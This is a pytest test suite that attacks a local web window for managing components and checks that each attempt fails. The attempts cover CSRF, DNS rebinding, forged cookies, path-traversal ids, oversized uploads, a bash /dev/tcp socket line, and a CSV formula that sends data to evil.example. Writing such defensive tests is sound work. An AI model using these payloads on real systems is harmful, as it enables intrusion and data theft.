"""Attacks on the window: from web pages, other programs, agents and components. None of them gets
in, reads or changes anything."""

from __future__ import annotations

import asyncio
import json
import os
import re
import sys
from typing import TYPE_CHECKING, Any

import pytest

from support.http import connection, head, read_answer, read_head, request, served
from support.window_api import Page, Windowed, open_page, windowed
from wassette.answers import Client
from wassette.host import Host
from wassette.paths import paths
from wassette.web import guard as web_guard
from wassette.window import WindowServer, auth
from wassette.window.app import create_app, openapi
from wassette.window.peer import is_own

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable, Iterator
    from pathlib import Path

    from wassette.config import Settings

pytestmark = pytest.mark.anyio
POLICY = "/api/components/calc/policy"
EVIL = {"kind": "network", "host": "evil.example"}
GRANT = "/api/components/calc/permissions"


@pytest.fixture
async def world(with_calc: Settings) -> AsyncIterator[Windowed]:
    async with windowed(with_calc) as one:
        yield one


@pytest.fixture
def page(world: Windowed) -> Page:
    return world.page


async def unchanged(page: Page) -> bool:
    """Whether nobody got a permission, and nothing else was loaded."""
    policy = await page.ok("GET", POLICY)
    components = await page.ok("GET", "/api/components")
    return policy["status"] == "absent" and [one["id"] for one in components["items"]] == ["calc"]


def routes() -> Iterator[tuple[str, str]]:
    """Every route of the API, with what is there in place of its parameters."""
    fill = {
        "component_id": "calc",
        "load_id": "0" * 16,
        "tool": "add",
        "call_id": "x" * 8,
        "name": "workspace",
        "key": "KEY",
        "request_id": "0" * 20,
        "number": "1",
        "client_id": "cursor",
    }
    for path, methods in openapi(create_app())["paths"].items():
        for method in methods:
            yield method.upper(), re.sub(r"\{(\w+)\}", lambda found: fill[found[1]], path)


ROUTES = list(routes())


# ---- other web pages -----------------------------------------------------------------------------


FOREIGN: list[dict[str, str]] = [
    {"Origin": "http://127.0.0.1:1"},
    {"Origin": "http://localhost:1"},
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Sec-Fetch-Site": "same-site"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site"},
]


async def test_a_page_of_another_origin(page: Page) -> None:
    """Attack: a page on another port of this machine, to which the browser sends our cookie along,
    asks for everything; even if it had found out the CSRF token."""
    for foreign in FOREIGN:
        for method, path in ROUTES:
            headers: dict[str, str | list[str]] = {**page.headers, "X-Wassette-CSRF": page.csrf}
            headers |= {"Content-Type": "application/json", **foreign}
            answer = await request(page.port, method, path, headers, b"{}")
            assert answer.status == 403, (method, path)
            assert "access-control-allow-origin" not in answer.headers
        assert await unchanged(page)


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", None])
async def test_a_form_of_another_page(page: Page, kind: str | None) -> None:
    """Attack: what a page can send without asking: a form. (Old browsers leave headers out.)"""
    headers: dict[str, str | list[str]] = dict(page.headers)
    if kind is not None:
        headers["Content-Type"] = kind
    body = json.dumps(EVIL).encode()
    assert (await request(page.port, "POST", GRANT, headers, body)).status == 403
    headers["X-Wassette-CSRF"] = page.csrf
    assert (await request(page.port, "POST", GRANT, headers, body)).status == 403
    headers["Origin"] = page.server.url
    if kind != "application/json":
        assert (await request(page.port, "POST", GRANT, headers, body)).status == 422
    assert await unchanged(page)


async def test_dns_rebinding(page: Page) -> None:
    """Attack: a name of the attacker's leads to this machine, so that their page is of the same
    origin as we are."""
    for host in (
        f"evil.example:{page.port}",
        "evil.example",
        f"127.0.0.1.evil.example:{page.port}",
        f"localhost.evil.example:{page.port}",
        f"127.0.0.1:{page.port}@evil.example",
    ):
        for method, path in (*ROUTES, ("GET", "/"), ("GET", "/open/x")):
            headers: dict[str, str | list[str]] = {**page.changing, "Host": host}
            headers["Origin"] = f"http://{host}"
            answer = await request(page.port, method, path, headers)
            assert answer.status == 421, (host, method, path)
    assert await unchanged(page)


METHODS = ["OPTIONS", "TRACE", "HEAD", "PROPFIND", "get", "GETT"]


async def test_other_methods(page: Page) -> None:
    for method in METHODS:
        for path in {path for _, path in ROUTES}:
            own = {"Host": f"127.0.0.1:{page.port}", **page.headers}
            async with connection(page.port, head(method, path, {**own})) as (reader, _):
                answer = await read_head(reader)  # of HEAD there is no more
            assert answer.status >= 400, (method, path)
        assert await unchanged(page)


async def test_being_framed_or_read_by_others(page: Page) -> None:
    """Attack: our page in an invisible frame, below the pointer of whoever plays a game."""
    for path in ("/", "/api/session", "/open/x", "/nothing.js"):
        headers = (await page.get(path)).headers
        assert headers["x-frame-options"] == "DENY"
        csp = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp
        assert "default-src 'none'" in csp
        assert "unsafe" not in csp
        assert headers["cross-origin-resource-policy"] == "same-origin"
        assert headers["x-content-type-options"] == "nosniff"


# ---- getting in ----------------------------------------------------------------------------------


CREDENTIALS: list[dict[str, str]] = [
    {},
    {"Cookie": "wassette=x"},
    {"Authorization": "Bearer {csrf}"},
    {"Cookie": "{name}=x"},
    {"Cookie": "{name}="},
    {"Cookie": "{name}={csrf}"},
    {"Cookie": "{name}=\u00e9\u00ff"},
    {"Cookie": "{value}; {name}=planted"},
    {"Cookie": "{name}=planted; {value}"},
    {"Cookie": "other{value}"},
]


async def test_without_the_cookie(page: Page) -> None:
    """Attack: another program of this machine, or a cookie that another server has planted."""
    for credentials in CREDENTIALS:
        name = page.cookie.partition("=")[0]
        filled: dict[str, str | list[str]] = {
            key: value.format(name=name, csrf=page.csrf, value=page.cookie)
            for key, value in credentials.items()
        }
        filled |= {
            "Origin": page.server.url,
            "X-Wassette-CSRF": page.csrf,
            "Content-Type": "application/json",
        }
        for method, path in ROUTES:
            answer = await request(page.port, method, path, filled, b"{}")
            assert answer.status == 401, (method, path, answer.status)
            assert answer.json["way_out"]
        assert await unchanged(page)


@pytest.mark.parametrize("csrf", [None, "", "x", "other", "cookie"])
async def test_without_the_csrf_token(world: Windowed, page: Page, csrf: str | None) -> None:
    """Attack: a page that gets our cookie sent along, but cannot read anything of ours."""
    other = await open_page(world.server)
    value = {"other": other.csrf, "cookie": page.cookie.partition("=")[2]}.get(csrf or "", csrf)
    headers: dict[str, str | list[str]] = {**page.headers, "Origin": page.server.url}
    headers["Content-Type"] = "application/json"
    if value is not None:
        headers["X-Wassette-CSRF"] = value
    for method, path in ROUTES:
        if method != "GET":
            answer = await request(page.port, method, path, headers, b"{}")
            assert answer.status == 403, (method, path)
    assert await unchanged(page)


async def test_a_link_opens_once(world: Windowed) -> None:
    """Attack: whoever sees the link afterwards, in the history or on the screen, uses it again."""
    port = world.page.port
    link = world.server.one_time_link().removeprefix(world.server.url)
    first = await request(port, "GET", link)
    assert first.status == 200
    flags = first.headers["set-cookie"].lower()
    assert "httponly" in flags
    assert "samesite=strict" in flags
    for _ in range(2):
        again = await request(port, "GET", link)
        assert again.status == 403
        assert "set-cookie" not in again.headers


async def test_opening_at_the_same_time(world: Windowed) -> None:
    """Attack: a program that sees the link races the browser: one of them gets in, and the person
    sees that it was not them."""
    link = world.server.one_time_link().removeprefix(world.server.url)
    answers = await asyncio.gather(*[request(world.page.port, "GET", link) for _ in range(20)])
    assert sorted(one.status for one in answers) == [200, *[403] * 19]


async def test_an_old_link() -> None:
    """Attack: a link that nobody used, found later."""
    clock = [0.0]
    door = auth.Auth(now=lambda: clock[0])
    link = door.new_link()
    clock[0] = auth.LINK_SECONDS
    assert door.open(link) is None
    assert door.links == 0


async def test_a_browser_that_was_not_used_for_long() -> None:
    clock = [0.0]
    door = auth.Auth(now=lambda: clock[0])
    cookie = door.open(door.new_link())
    clock[0] = auth.IDLE_SECONDS - 1
    assert door.browser(cookie) is not None
    clock[0] += auth.IDLE_SECONDS + 1
    assert door.browser(cookie) is None


async def test_more_links_and_browsers_than_anybody_needs() -> None:
    door = auth.Auth()
    links = [door.new_link() for _ in range(auth.MAX_LINKS + 5)]
    assert door.links == auth.MAX_LINKS
    assert door.open(links[0]) is None
    cookies = [door.open(door.new_link()) for _ in range(auth.MAX_BROWSERS + 5)]
    assert door.browser(cookies[0]) is None
    assert door.browser(cookies[-1]) is not None


LINKS = ["", "x", "x" * 10_000, "..%2f", "%00", "%e9", "a/b"]


async def test_guessing_links(page: Page) -> None:
    for link in LINKS:
        answer = await request(page.port, "GET", f"/open/{link}")
        assert answer.status >= 400
        assert "set-cookie" not in answer.headers


async def test_planting_a_link_by_a_frame(world: Windowed) -> None:
    """Attack: another page opens a link of its own (of an attacker's session) in a frame or by a
    script, so that the person works in a window that is not theirs."""
    link = world.server.one_time_link().removeprefix(world.server.url)
    for mode, dest in (("navigate", "iframe"), ("no-cors", "image"), ("cors", "empty")):
        headers: dict[str, str | list[str]] = {
            "Sec-Fetch-Site": "cross-site",
            "Sec-Fetch-Mode": mode,
            "Sec-Fetch-Dest": dest,
        }
        assert (await request(world.page.port, "GET", link, headers)).status == 403
    navigated: dict[str, str | list[str]] = {
        "Sec-Fetch-Site": "cross-site",  # from the file that the browser is started with
        "Sec-Fetch-Mode": "navigate",
        "Sec-Fetch-Dest": "document",
    }
    assert (await request(world.page.port, "GET", link, navigated)).status == 200


async def test_the_cookie_of_another_window(world: Windowed, tmp_path: Path) -> None:
    """Attack: what lets into one host's window is tried at another's."""
    from wassette.config import Settings as Chosen

    async with Host(Chosen(tmp_path / "other")) as host, WindowServer(host) as server:
        other = await open_page(server)
        stolen = world.page.cookie.partition("=")[2]
        name = other.cookie.partition("=")[0]
        assert name != world.page.cookie.partition("=")[0]
        for cookie in (world.page.cookie, f"{name}={stolen}"):
            answer = await request(other.port, "GET", "/api/session", {"Cookie": cookie})
            assert answer.status == 401


@pytest.mark.skipif(sys.platform != "linux" or os.geteuid() != 0, reason="needs two users")
async def test_the_cookie_in_the_hands_of_another_user(
    page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack: a server of another user on this machine, which the person visited: browsers send our
    cookie to every port. It uses it with all the right headers."""
    asked = head("GET", "/api/session", {"Host": f"127.0.0.1:{page.port}", **page.headers})
    # A shell: the interpreter of whoever runs this is often not for others.
    script = f"exec 3<>/dev/tcp/127.0.0.1/{page.port}; cat >&3; head -c 12 <&3"

    async def by(user: int) -> bytes:
        process = await asyncio.create_subprocess_exec(
            *("/bin/bash", "-c", script), user=user, cwd="/", stdin=-1, stdout=-1, stderr=-1
        )
        said, _ = await asyncio.wait_for(process.communicate(asked), 60)
        return said

    assert await by(os.getuid()) == b"HTTP/1.1 200"
    assert await by(65534) == b""
    monkeypatch.setattr("wassette.window.peer.is_own", lambda *_: True)
    assert await by(65534) == b"HTTP/1.1 200"  # that is all that keeps it out


async def test_who_connects_is_told_by_the_system(tmp_path: Path) -> None:
    table = tmp_path / "tcp"
    head = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid\n"
    row = "   0: 0100007F:1F90 0100007F:0050 01 00000000:00000000 00:00000000 00000000  {} 0 1\n"
    ends = ("127.0.0.1", 0x1F90), ("127.0.0.1", 0x50)
    for uid, own in ((os.getuid(), True), (0, True), (os.getuid() + 1, False)):
        table.write_text(head + row.format(uid))
        assert is_own(*ends, table) is own
    peer, here = ends
    assert not is_own(here, peer, table)  # our own end is not the other one
    assert is_own(*ends, tmp_path / "none")


async def test_the_token_of_an_mcp_client(settings: Settings, world: Windowed) -> None:
    """Attack: an agent that has the token for MCP asks the window, or asks for it at MCP's port."""
    token = "correct-horse-battery"
    bearer: dict[str, str | list[str]] = {"Authorization": f"Bearer {token}"}
    async with served(settings, tokens=(token,)) as server:
        for method, path in ROUTES:
            headers = {**bearer, "Origin": world.page.server.url}
            assert (await request(world.page.port, method, path, headers)).status == 401
            headers = {**bearer, "Origin": server.url}
            assert (await request(server.port, method, path, headers)).status == 404
            headers |= world.page.headers
            assert (await request(server.port, method, path, headers)).status == 404
    assert await unchanged(world.page)


async def test_a_component_that_asks_the_window(
    world: Windowed, fixture_component: Callable[[str], Path]
) -> None:
    """Attack: a component that may reach this machine sends requests to the window's port."""
    await world.host.load(str(fixture_component("c-http")))
    client = Client("agent", "1", "stdio", "s" * 22)
    link = world.server.one_time_link()
    for name in ("127.0.0.1", "localhost"):
        # Even with a permission for that very place.
        await world.host.grant_network("c-http", f"http://{name}:{world.page.port}")
        url = link.replace("127.0.0.1", name)
        arguments = {"method": "GET", "url": url, "headers": [], "body": ""}
        result = await world.host.call_tool("request", arguments, client)
        [exchange] = result.exchanges
        assert not exchange.allowed
        assert exchange.status is None
    # It did not get there: the link still opens.
    assert (
        await request(world.page.port, "GET", link.removeprefix(world.server.url))
    ).status == 200


async def test_hostile_bytes_and_bodies(page: Page, world: Windowed) -> None:
    """Attack: what is no component, or more than there may be."""
    for data in (
        b"",
        b"\0as",
        b"MZ" * 1000,
        b"\0asm",
        b"\0asm\x01\0\0\0",
        b"\0asm\x0d\0\x01\0" * 9,
    ):
        answer = await page.send("POST", "/api/loads/upload?name=x.wasm", data)
        if answer.status == 202:
            load = await page.finish(answer.json["id"])
            assert load["stage"] == "failed", data
        else:
            assert answer.status == 422
    assert await unchanged(page)
    uploads = paths().cache / "uploads"
    assert not uploads.exists() or list(uploads.iterdir()) == []


async def test_an_endless_upload(page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack: more bytes than a component may have, with and without saying so before."""
    monkeypatch.setattr("wassette.window.guard.MAX_COMPONENT", 100_000)
    target = "/api/loads/upload?name=x.wasm"
    base: dict[str, str | list[str]] = {
        **page.changing,
        "Host": f"127.0.0.1:{page.port}",
        "Content-Type": "application/octet-stream",
    }
    said = head("POST", target, {**base, "Content-Length": "100001"})
    async with connection(page.port, said) as (reader, _):
        assert (await read_answer(reader)).status == 413
    unsaid = head("POST", target, {**base, "Transfer-Encoding": "chunked"})
    async with connection(page.port, unsaid) as (reader, writer):
        chunk = b"1000\r\n" + b"\0asm" + b"x" * 4092 + b"\r\n"
        writer.write(chunk * 40)
        assert (await read_answer(reader)).status == 413
    assert list((paths().cache / "uploads").iterdir()) == []
    assert await unchanged(page)


async def test_an_upload_that_stops(page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack: a body that never ends keeps files open."""
    monkeypatch.setattr("wassette.window.routes.loads.UPLOAD_IDLE", 0.2)
    headers: dict[str, str | list[str]] = {
        **page.changing,
        "Host": f"127.0.0.1:{page.port}",
        "Content-Length": "5000",
    }
    sent = head("POST", "/api/loads/upload?name=x.wasm", headers)
    async with connection(page.port, sent + b"\0asm") as (reader, _):
        assert (await read_answer(reader)).status == 408
    async with connection(page.port, sent + b"\0asm"):
        pass  # gone in the middle
    async with asyncio.timeout(30):
        while list((paths().cache / "uploads").iterdir()):
            await asyncio.sleep(0.02)


async def test_a_huge_body(page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    body = b'{"yaml": "' + b"x" * 5_000_000 + b'"}'
    headers: dict[str, str | list[str]] = {**page.changing, "Content-Type": "application/json"}
    assert (await request(page.port, "PUT", POLICY, headers, body)).status == 413
    monkeypatch.setattr(web_guard, "BODY_TIMEOUT", 0.2)
    headers |= {"Host": f"127.0.0.1:{page.port}", "Content-Length": "100"}
    async with connection(page.port, head("PUT", POLICY, headers)) as (reader, _):
        assert (await read_answer(reader)).status == 408


DEEP = b'{"arguments": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}"


@pytest.mark.parametrize(
    "body",
    [b"", b"null", b"[]", b"{", b'"x"', b"\xff\xfe", b'{"kind": "\\ud800"}', b"NaN", DEEP],
)
async def test_hostile_json(page: Page, body: bytes) -> None:
    """Attack: what is no JSON, or breaks who reads it."""
    headers: dict[str, str | list[str]] = {**page.changing, "Content-Type": "application/json"}
    for method, path in ROUTES:
        if method in ("POST", "PUT", "PATCH") and "upload" not in path:
            answer = await request(page.port, method, path, headers, body)
            assert answer.status < 500, (method, path, answer.status, answer.text)
    assert await unchanged(page)


IDS = [
    "..",
    "../calc",
    "%2e%2e",
    "..%2fcalc",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "calc%00",
    "CALC",
    "calc%0a",
    "con",
    "calc.",
    "ca\u006cc%ff",
    "x" * 129,
    ".lock",
    "calc.policy.yaml",
]


async def test_ids_that_are_paths(page: Page, world: Windowed) -> None:
    """Attack: an id that leads to another file."""
    for component_id in IDS:
        before = sorted(path.name for path in world.host.store.directory.iterdir())
        for method, path in ROUTES:
            if "/calc" in path:
                where = path.replace("/calc", f"/{component_id}")
                body = json.dumps({**EVIL, "yaml": "version: '1.0'\npermissions: {}\n"}).encode()
                headers = {**page.changing, "Content-Type": "application/json"}
                answer = await request(page.port, method, where, {**headers}, body)
                assert 400 <= answer.status < 500, (method, where, answer.status)
        assert sorted(path.name for path in world.host.store.directory.iterdir()) == before


PATHS = [
    "/..%2f..%2fetc/passwd",
    "/assets/..%2f..%2fmodels.py",
    "/%2e%2e/models.py",
    "//api/session",
    "/API/session",
    "/api/../api/session",
    "/.%2e/auth.py",
    "/static/../auth.py",
]


async def test_paths_that_lead_out_of_the_pages(page: Page) -> None:
    """Attack: files of ours, or the API by another spelling of its path."""
    for path in PATHS:
        answer = await request(page.port, "GET", path)
        assert "csrf" not in answer.text
        assert "root:" not in answer.text
        assert "import" not in answer.text


async def test_names_of_uploads_that_are_paths(page: Page, world: Windowed) -> None:
    from urllib.parse import quote

    from support.wat import CALC, component

    data = component(CALC)
    for name in ("../../evil.wasm", "/etc/evil.wasm", "a\\..\\evil.wasm", "evil.wasm\0", "EVIL"):
        answer = await page.send("POST", f"/api/loads/upload?name={quote(name)}", data)
        assert answer.status == 202, answer.text
        load = await page.staged(answer.json["id"], "review", "failed")
        assert load["component_id"].startswith("evil")
        await page.ok("DELETE", f"/api/loads/{load['id']}")
    for name in ("..", "...", "/", "con.wasm"):
        answer = await page.send("POST", f"/api/loads/upload?name={quote(name)}", data)
        assert answer.status == 422, name
    assert await unchanged(page)


async def test_texts_of_a_component_are_data(page: Page, world: Windowed) -> None:
    """Attack: names and descriptions with markup, in JSON that somebody opens as a page."""
    answer = await page.get("/api/components")
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"


async def test_a_cell_that_is_a_formula(world: Windowed, page: Page) -> None:
    """Attack: an agent has something recorded that a spreadsheet runs."""
    evil = Client('=HYPERLINK("http://evil.example?"&A1)', "1", "stdio", "s" * 22)
    await world.host.call_tool("add", {"a": 1, "b": 2}, evil)
    async with asyncio.timeout(30):
        while "HYPERLINK" not in (await page.get("/api/activity/export", format="csv")).text:
            await asyncio.sleep(0.02)
    sheet = (await page.get("/api/activity/export", format="csv")).text
    assert not re.search(r'(^|,)"?=', sheet, re.MULTILINE)


async def test_secrets_are_in_no_answer(page: Page, world: Windowed) -> None:
    """Whatever is asked for: no value comes out, and none is in an error."""
    secret = "hunter2-hunter2-hunter2"
    await page.ok("POST", "/api/components/calc/secrets", {"key": "KEY", "value": secret})
    await page.ok("POST", GRANT, {"kind": "environment", "key": "KEY"})
    seen: list[Any] = []
    for method, path in ROUTES:
        if method == "GET" and path != "/events":
            seen.append((await page.get(path)).text)
    too_long = {"key": "KEY", "value": secret * 10_000}
    seen.append((await page.post("/api/components/calc/secrets", too_long)).text)
    wrong = {"key": secret, "value": secret, "more": secret}
    seen.append((await page.post("/api/components/calc/secrets", wrong)).text)
    explain = {"kind": "environment", "target": "KEY"}
    seen.append((await page.post("/api/components/calc/explain", explain)).text)
    assert not any(secret in text for text in seen)
